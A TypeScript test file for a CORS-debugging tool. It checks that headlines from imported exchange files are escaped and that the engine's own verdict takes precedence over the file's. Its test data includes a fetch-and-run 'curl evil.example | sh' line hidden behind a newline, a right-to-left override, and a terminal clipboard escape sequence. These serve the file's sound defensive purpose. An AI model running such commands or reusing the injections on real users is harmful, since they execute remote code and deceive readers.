// An imported exchange's row shows this engine's verdict and headline; the file's verdict, where it
// differs, is the file's claim beside it. The exporter's headline (shown in the detail) is words the
// file's author wrote, which the engine does not check: they must not read as something else (bidi
// overrides, line breaks) nor freeze the list (megabytes).

import { describe, expect, it } from 'vitest';
import type { ExchangeEntry } from '../store/entry.ts';
import { exportedHeadline, rowView } from './row-view.ts';

const RLO = '\u202e';

describe('exportedHeadline', () => {
  it.each([
    ['Origin not allowed', 'Origin not allowed'],
    [`Allowed ${RLO}dekcolb`, 'Allowed \\u202edekcolb'],
    ['Allowed\nRun curl evil.example | sh', 'Allowed\\x0aRun curl evil.example | sh'],
    ['\x1b]52;c;ZXZpbA==\x07ok', '\\x1b]52;c;ZXZpbA==\\x07ok'],
  ])('%j is shown as %j', (given, shown) => {
    expect(exportedHeadline(given)).toBe(shown);
  });

  it('cuts megabytes to one line of words', () => {
    const shown = exportedHeadline('x'.repeat(5_000_000));
    expect(shown.length).toBeLessThanOrEqual(201);
    expect(shown.endsWith('…')).toBe(true);
  });
});

describe('rowView of an imported exchange', () => {
  const forgedAllowed = { verdict: 'allowed', corsError: null, failedParameter: null, failedAt: null, headline: `OK${RLO}ti xif ot siht nuR` };
  const entry = {
    id: 'x',
    captured: { id: 'x', source: 'import', exchange: { request: { method: 'GET', headers: [] }, hops: [{ url: 'https://api.example/', response: { status: 200, headers: [] } }] } },
  } as unknown as ExchangeEntry;
  const engineSays = {
    diagnosis: () => ({ ok: true as const, value: { verdict: 'blocked', corsError: 'MissingAllowOriginHeader', failedParameter: '', preflight: { observed: 'not-needed' } } as never }),
    explanation: () => ({ ok: true as const, value: { headline: 'No Access-Control-Allow-Origin' } as never }),
  };
  const now = { verdict: 'blocked' as const, corsError: 'MissingAllowOriginHeader', failedParameter: '', failedAt: { hop: 0, phase: 'actual' as const } };
  const originWith = (versions: { exported: string; now: string }) =>
    ({
      importOrigin: () => ({
        fileName: 'f.json',
        kind: 'bundle' as const,
        exported: forgedAllowed,
        rules: 'chromium',
        exporterRules: 'chromium',
        sentBy: 'chromium',
        verdictChange: { exported: forgedAllowed, now, engineVersions: versions },
      }),
    }) as never;

  it("shows this engine's verdict and headline, not the file's, and carries the file's claim", () => {
    const row = rowView(entry, engineSays, originWith({ exported: '0.1.0', now: '0.1.0' }));
    expect(row).toMatchObject({ verdict: 'blocked', headline: 'No Access-Control-Allow-Origin' });
    expect(row.fileClaim).toEqual({ says: 'the file says: Allowed', why: "the file's verdict does not match its requests: edited by hand, or changed by redaction" });
  });

  it('names both engine versions in the claim when they differ', () => {
    expect(rowView(entry, engineSays, originWith({ exported: '0.0.9', now: '0.1.0' })).fileClaim?.why).toBe('exported by engine 0.0.9; this is 0.1.0');
  });

  it('carries no claim where the file agrees with this engine', () => {
    const store = { importOrigin: () => ({ fileName: 'f.json', kind: 'bundle' as const, exported: now, rules: 'chromium', exporterRules: 'chromium', sentBy: 'chromium', verdictChange: null }) } as never;
    const row = rowView(entry, engineSays, store);
    expect(row.verdict).toBe('blocked');
    expect(row.fileClaim).toBeUndefined();
  });

  const blockedByChromium = {
    id: 'y',
    captured: {
      id: 'y',
      source: 'import',
      exchange: { request: { method: 'GET', headers: [] }, hops: [{ url: 'https://api.example/', response: null }], browserVerdict: { corsError: 'PreflightDisallowedRedirect', failedParameter: '' } },
    },
  } as unknown as ExchangeEntry;
  const firefoxSays = {
    diagnosis: () => ({ ok: true as const, value: { verdict: 'blocked', corsError: 'PreflightMissingAllowOriginHeader', failedParameter: null, preflight: { observed: 'sent' } } as never }),
    explanation: () => ({ ok: true as const, value: { headline: 'Preflight got 307' } as never }),
  };
  const exported = { verdict: 'blocked', corsError: 'PreflightDisallowedRedirect', failedParameter: '', failedAt: { hop: 0, phase: 'preflight' }, headline: 'Preflight redirected' };

  it("a Chromium bundle in the Firefox panel shows Firefox's verdict and headline, not the exporter's, and flags no disagreement with Chromium's own", () => {
    const store = { importOrigin: () => ({ fileName: 'f.json', kind: 'bundle' as const, exported, rules: 'firefox', exporterRules: 'chromium', sentBy: 'chromium', verdictChange: null }) } as never;
    expect(rowView(blockedByChromium, firefoxSays, store)).toMatchObject({ verdict: 'blocked', headline: 'Preflight got 307', disagrees: false });
  });

  it("judged by Chromium's rules, a verdict other than Chromium's own is still flagged", () => {
    const store = { importOrigin: () => ({ fileName: 'f.har', kind: 'har' as const, exported: null, rules: 'chromium', exporterRules: null, sentBy: 'chromium', verdictChange: null }) } as never;
    expect(rowView(blockedByChromium, firefoxSays, store)).toMatchObject({ disagrees: true });
  });
});
